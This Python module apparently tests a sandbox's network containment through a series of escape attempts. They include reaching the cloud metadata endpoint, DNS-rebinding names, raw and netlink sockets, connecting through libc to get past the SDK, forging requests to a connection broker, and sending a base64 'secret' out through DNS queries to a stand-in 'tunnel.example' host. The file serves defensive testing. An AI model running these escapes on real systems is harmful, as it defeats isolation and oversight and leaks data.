"""Whom it may not reach. Success needs an answer: inside, every address takes calls."""

from __future__ import annotations

import ctypes
import json
import os
import socket
import stat
import struct
import subprocess
import sys
from typing import Any

from trying import LIBC, Stopped, attempt, check, syscall

PATIENCE_S = 3.0
LOOPBACK, LOOPBACK_6 = "127.0.0.1", "::1"
METADATA = "169.254.169.254"
ALG, VSOCK = 38, 40


def _tcp(host: str, port: int) -> str:
    with socket.create_connection((host, port), PATIENCE_S) as connection:
        connection.sendall(b"hello\n")
        return _said(connection.recv(100))


def _said(answer: bytes) -> str:
    if not answer:
        raise ConnectionError("no answer")
    return answer.decode(errors="replace")


def _udp(host: str, port: int, data: bytes = b"hello\n") -> bytes:
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(PATIENCE_S / 3)
        sender.connect((host, port))
        sender.send(data)
        return sender.recv(4096)


@attempt
def reach_what_was_declared(t: Any) -> str:
    return _tcp(LOOPBACK, t.declared_port)


@attempt
def reach_an_undeclared_port(t: Any) -> str:
    return _tcp(LOOPBACK, t.undeclared_port)


@attempt
def reach_an_undeclared_address(t: Any) -> str:
    return _tcp("127.0.0.2", t.declared_port)


@attempt
def reach_the_machine_by_ipv6(t: Any) -> str:
    return _tcp(LOOPBACK_6, t.declared_port)


@attempt
def reach_the_machine_by_a_mapped_address(t: Any) -> str:
    return _tcp("::ffff:127.0.0.2", t.declared_port)


@attempt
def reach_the_machine_by_the_address_zero(t: Any) -> str:
    return _tcp("0.0.0.0", t.undeclared_port)


@attempt
def reach_an_undeclared_name(t: Any) -> str:
    return _tcp("evil.example", t.declared_port)


@attempt
def reach_the_metadata_of_the_cloud(t: Any) -> str:
    return _tcp(METADATA, 80)


@attempt
def reach_a_private_network(t: Any) -> str:
    return _tcp("10.0.0.1", t.declared_port)


@attempt
def reach_an_undeclared_public_address(t: Any) -> str:
    return _tcp("192.88.99.1", t.declared_port)


@attempt
def reach_an_undeclared_public_ipv6_address(t: Any) -> str:
    return _tcp("2001:db8::1", t.declared_port)


@attempt
def have_a_declared_name_lead_to_this_machine(t: Any) -> str:
    return _tcp(f"loopback.{t.declared_domain}", t.rebound_port)


@attempt
def have_a_declared_name_lead_to_this_machine_by_ipv6(t: Any) -> str:
    return _tcp(f"six.{t.declared_domain}", t.rebound_port)


@attempt
def have_a_declared_name_lead_to_a_private_network(t: Any) -> str:
    return _tcp(f"private.{t.declared_domain}", t.rebound_port)


@attempt
def have_a_declared_name_lead_to_the_metadata(t: Any) -> str:
    return _tcp(f"metadata.{t.declared_domain}", t.rebound_port)


@attempt
def declare_localhost_itself(t: Any) -> str:
    return _tcp("localhost", t.rebound_port)


@attempt
def send_a_datagram_to_the_machine(t: Any) -> str:
    return _said(_udp(LOOPBACK, t.undeclared_port))


@attempt
def send_a_datagram_to_the_machine_by_ipv6(t: Any) -> str:
    return _said(_udp(LOOPBACK_6, t.undeclared_port))


@attempt
def tell_a_secret_in_a_name(t: Any) -> str:
    address = socket.gethostbyname("c2VjcmV0.tunnel.example")
    if address.startswith("198.18."):
        raise Stopped("an address that nobody outside was asked for")
    return address


@attempt
def tell_a_secret_in_a_question_for_txt(t: Any) -> str:
    labels = b"".join(bytes([len(one)]) + one for one in (b"c2VjcmV0", b"tunnel", b"example"))
    question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 16, 1)
    answer = _udp(LOOPBACK, 53, question)
    no_such_name = 3
    if answer[3] & 0xF == no_such_name:
        raise Stopped("there is no such name, says the tool itself")
    return "answered"


@attempt
def connect_past_the_sdk(t: Any) -> str:
    """By the C library, and for good measure to what the test declared for nobody."""
    descriptor = check(LIBC.socket(socket.AF_INET, socket.SOCK_STREAM, 0), "socket")
    try:
        address = struct.pack("=H", socket.AF_INET) + struct.pack(">H", t.undeclared_port) + socket.inet_aton(LOOPBACK) + bytes(8)
        check(LIBC.connect(descriptor, address, len(address)), "connect")
        os.write(descriptor, b"hello\n")
        return _said(os.read(descriptor, 100))
    finally:
        os.close(descriptor)


@attempt
def connect_by_sending(t: Any) -> str:
    """TCP fast open has no call of its own for connecting."""
    descriptor = check(LIBC.socket(socket.AF_INET, socket.SOCK_STREAM, 0), "socket")
    try:
        address = struct.pack("=H", socket.AF_INET) + struct.pack(">H", t.undeclared_port) + socket.inet_aton(LOOPBACK) + bytes(8)
        fast_open = 0x20000000
        check(LIBC.sendto(descriptor, b"hello\n", 6, fast_open, address, len(address)), "sendto")
        return _said(os.read(descriptor, 100))
    finally:
        os.close(descriptor)


@attempt
def connect_by_a_program(t: Any) -> str:
    code = f"import socket; c = socket.create_connection(('{LOOPBACK}', {t.undeclared_port}), 3); c.send(b'hello\\n'); print(c.recv(9))"
    done = subprocess.run([sys.executable, "-I", "-S", "-c", code], capture_output=True, text=True)
    if "hello" not in done.stdout:
        raise Stopped(done.stderr[-100:])
    return done.stdout


@attempt
def ask_for_a_connection_in_the_name_of_the_sdk(t: Any) -> str:
    """At the level that hands out connections: the question itself, without what the SDK checks."""
    if t.level != "landlock":
        raise Stopped("nobody hands out connections")
    for number in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
            with socket.socket(fileno=os.dup(number)) as control:
                control.settimeout(PATIENCE_S)
                for host, port in ((LOOPBACK, t.undeclared_port), (f"x@{LOOPBACK}", t.undeclared_port), (METADATA, 80)):
                    control.send(json.dumps({"id": 10**9, "host": host, "port": port}).encode())
                    data, descriptors, _, _ = socket.recv_fds(control, 4096, 1)
                    if descriptors or json.loads(data)["verdict"] == "allowed":
                        return f"{host}:{port}"
        except OSError:
            continue
    raise Stopped("refused")


@attempt
def be_reached_from_outside(t: Any) -> str:
    listener = socket.socket()
    listener.bind(("0.0.0.0", t.free_port))
    listener.listen()
    globals()["_listener"] = listener  # the test tries to connect
    return "listening"


@attempt
def reach_an_abstract_socket(t: Any) -> str:
    return _unix("\0" + t.abstract)


@attempt
def reach_a_socket_with_a_path(t: Any) -> str:
    return _unix(t.socket_path)


def _unix(address: str) -> str:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(address)
    return "connected"


@attempt
def send_to_a_path_by_a_pair_of_datagram_sockets(t: Any) -> str:
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with ours, theirs:
        return str(ours.sendto(b"x", t.datagram_path))


@attempt
def hide_the_family_of_a_socket_in_high_bits(t: Any) -> str:
    os.close(syscall(t, "socket", socket.AF_UNIX + 2**32, socket.SOCK_STREAM, 0))
    return "made"


def _make(family: int, kind: int, protocol: int = 0) -> str:
    os.close(check(LIBC.socket(ctypes.c_int(family), ctypes.c_int(kind), ctypes.c_int(protocol)), "socket"))
    return "made"


@attempt
def make_a_vsock_socket(t: Any) -> str:
    return _make(VSOCK, socket.SOCK_STREAM)


@attempt
def make_a_netlink_socket(t: Any) -> str:
    return _make(socket.AF_NETLINK, socket.SOCK_RAW)


@attempt
def make_a_packet_socket(t: Any) -> str:
    return _make(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)


@attempt
def make_a_raw_socket(t: Any) -> str:
    return _make(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attempt
def make_a_socket_for_the_kernel_s_ciphers(t: Any) -> str:
    return _make(ALG, socket.SOCK_SEQPACKET)
